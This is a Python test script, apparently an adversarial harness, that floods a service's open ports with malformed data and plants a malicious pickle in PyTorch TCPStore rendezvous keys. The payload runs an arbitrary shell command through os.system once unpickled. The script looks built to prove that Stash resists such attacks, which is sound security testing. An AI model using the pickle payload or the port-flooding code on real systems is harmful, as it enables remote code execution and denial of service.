"""A stranger: whoever else is on the network, or on the machine, and speaks to every port that it finds open.

``python stranger.py --attack NAME --proof FILE --seconds N HOST:PORT/tcp HOST:PORT/udp ...``; with the attack
``unpickle``, the file is what appears if anybody runs what the stranger sent. It knows nothing of Stash but what
anyone can read in its source, and it prints what it did.
"""

import argparse
import base64
import contextlib
import os
import pickle
import socket
import time
from datetime import timedelta

_HOLDS = []
"""Connections that are kept open and say nothing more."""


class Payload:
    """What leaves a file behind when it is unpickled."""

    def __init__(self, proof):
        self.proof = proof

    def __reduce__(self):
        return os.system, (f"id > {self.proof}",)


WORDS = {
    "brackets": lambda proof: [b"[" * 4000, b"[" * 65000],
    "infinity": lambda proof: [
        b'{"token": "x", "node": Infinity}',
        b'{"token": "", "node": 1e999}',
        b"NaN",
    ],
    "noise": lambda proof: [os.urandom(size) for size in (1, 8, 64, 1400, 9000)],
    "lengths": lambda proof: [
        b"\xff" * 8,
        b"\x7f" + b"\xff" * 15,
        b"\x00" * 64,
        (1 << 62).to_bytes(8, "little") * 4,
    ],
    "http": lambda proof: [
        b"GET / HTTP/1.1\r\nHost: stash\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    ],
    "pickles": lambda proof: [
        pickle.dumps(Payload(proof)),
        b"\x00" * 8 + pickle.dumps(Payload(proof)),
    ],
    "silence": lambda proof: [b""],
}


def say(target, words, hold):
    """Every word to a port, each in a datagram or a connection of its own; how many went out."""
    host, port, kind = target
    attempts = 0
    for word in words:
        with contextlib.suppress(OSError):
            made = socket.socket(
                socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM
            )
            made.settimeout(1.0)
            made.connect((host, port))
            attempts += 1
            made.sendall(word[:60000] if kind == "udp" else word)
            _HOLDS.append(made)
            if not hold or len(_HOLDS) > 200:
                _HOLDS.pop(0).close()
    return attempts


GUESSES = ("stash", "none", "default", "0")


def put_pickles(target, proof):
    """Leave the payload in torch's store wherever torchrun might look for the state of a rendezvous."""
    from torch.distributed import TCPStore

    host, port, kind = target
    if kind != "tcp":
        return 0
    with contextlib.suppress(OSError):  # is it there at all? The store's own client waits long
        socket.create_connection((host, port), timeout=1.0).close()
        state = base64.b64encode(pickle.dumps(Payload(proof))).decode()
        with contextlib.suppress(RuntimeError, ValueError):
            store = TCPStore(
                host, port, is_master=False, timeout=timedelta(seconds=2), wait_for_workers=False
            )
            keys = {f"torch.rendezvous.{name}" for name in GUESSES} | set(_rendezvous(store))
            for key in keys:
                store.set(key, state)
            return len(keys)
    return 0


def _rendezvous(store):
    """The names under which a rendezvous keeps its state, which newer stores tell anybody."""
    names = store.list_keys() if hasattr(store, "list_keys") else []
    return (name for name in names if "rendezvous" in name)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--attack", required=True)
    parser.add_argument("--proof", required=True)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("targets", nargs="*")
    args = parser.parse_args()
    targets = [
        (*place.rpartition("/")[0].rsplit(":", 1), place.rpartition("/")[2])
        for place in args.targets
    ]
    attempts, end = 0, time.monotonic() + args.seconds
    while time.monotonic() < end:
        for host, port, kind in targets:
            target = (host, int(port), kind)
            if args.attack == "unpickle":
                attempts += put_pickles(target, args.proof)
            else:
                attempts += say(
                    target, WORDS[args.attack](args.proof), hold=args.attack == "silence"
                )
        time.sleep(0.2)
    print(f"the stranger said {attempts} things to {len(targets)} ports", flush=True)


if __name__ == "__main__":
    main()
